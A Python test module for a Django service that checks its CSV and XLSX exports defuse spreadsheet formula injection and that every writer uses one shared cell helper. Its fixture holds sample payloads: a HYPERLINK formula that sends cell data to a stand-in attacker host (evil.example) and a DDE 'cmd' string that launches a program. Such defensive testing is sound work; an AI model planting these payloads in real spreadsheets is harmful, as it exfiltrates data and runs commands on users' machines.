"""No CSV or XLSX the service makes holds a live formula (issue 14: formula injection).

Formula-like text written by people (a barrier, a record title, a plan task) is put through
every export; no cell may start with a formula trigger and no XLSX cell may be a formula.
Every CSV or XLSX writer must go through `shopwindow.core.spreadsheets` (checked in the source).
"""

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from shopwindow.adoption import services as adoption_services
from shopwindow.authorities.models import Authority
from shopwindow.core.spreadsheets import FORMULA_TRIGGERS
from tests.factories import CouncilMembershipFactory, UserFactory, create_innovation

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SOUTH_HAMS = "E07000044"


@pytest.fixture
def hostile_record() -> object:
    return create_innovation(
        id="formula-record",
        title="+SUM(1+1) Shared waste",
        lead_authorities=[SOUTH_HAMS],
        other_partners=["@cmd"],
        outcomes={"annual_saving_gbp": 1000, "saving_kind": "audited"},
        barriers=[{"barrier": ATTACK, "ask_of_government": "-2+3+cmd|' /C calc'!A0"}],
    )


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_csv_safe(text: str) -> None:
    cells = _csv_cells(text)
    assert cells
    for cell in cells:
        if re.fullmatch(r"-?\d+(\.\d+)?", cell):
            continue  # a number, negative or not, stays a number
        assert cell[:1] not in FORMULA_TRIGGERS, cell


def _assert_xlsx_safe(content: bytes) -> int:
    book = load_workbook(io.BytesIO(content))
    checked = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in FORMULA_TRIGGERS, (sheet.title, cell.value)
                    checked += 1
    return checked


def test_report_csv_zip_and_xlsx(client: Client, hostile_record: object) -> None:
    response = client.get("/report/download", {"format": "csv"})
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        examples = archive.read("barrier_examples.csv").decode("utf-8-sig")
        for name in archive.namelist():
            _assert_csv_safe(archive.read(name).decode("utf-8-sig"))
    assert "'" + ATTACK in _csv_cells(examples)

    content = client.get("/report/download", {"format": "xlsx"}).content
    assert _assert_xlsx_safe(content)
    sheet = load_workbook(io.BytesIO(content))["barrier_examples"]
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "'" + ATTACK in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_record_exports(fmt: str, hostile_record: object, tmp_path: Path) -> None:
    target = tmp_path / f"records.{fmt}"
    call_command("export_innovations", "--format", fmt, "--output", str(target))
    if fmt == "csv":
        _assert_csv_safe(target.read_text())
        assert any(cell.startswith("'" + ATTACK) for cell in _csv_cells(target.read_text()))
    else:
        assert _assert_xlsx_safe(target.read_bytes())


def test_record_page_csv(client: Client, hostile_record: object) -> None:
    response = client.get("/innovations/formula-record/download.csv")
    assert response.status_code == 200
    _assert_csv_safe(response.content.decode())


def test_plan_exports(hostile_record: object) -> None:
    user = UserFactory.create()
    council = Authority.objects.get(gss=SOUTH_HAMS)
    CouncilMembershipFactory.create(user=user, authority=council)
    plan = adoption_services.start_plan(
        user=user,
        innovation=hostile_record,  # type: ignore[arg-type]
        council=council,
        title="=1+1 plan",
        start_date=date(2026, 1, 5),
    )
    adoption_services.add_task(user=user, plan=plan, title=ATTACK, status="blocked")
    client = Client()
    client.force_login(user)
    _assert_csv_safe(client.get(f"/plans/{plan.pk}/plan.csv").content.decode())
    assert _assert_xlsx_safe(client.get(f"/plans/{plan.pk}/plan.xlsx").content)


def test_every_spreadsheet_writer_goes_through_the_one_cell_writer() -> None:
    root = Path(settings.BASE_DIR) / "shopwindow"
    sources = {
        path: path.read_text() for path in root.rglob("*.py") if path.name != "spreadsheets.py"
    }
    raw_csv = [
        path for path, text in sources.items() if re.search(r"csv\.(writer|DictWriter)\(", text)
    ]
    assert raw_csv == []
    # Workbooks are filled with append_row and written with workbook_bytes, never saved directly.
    for path, text in sources.items():
        if "Workbook(" in text:
            assert "append_row" in text, path
            assert "workbook_bytes" in text, path
            assert not re.search(r"\.save\(|sheet\.append\(", text), path
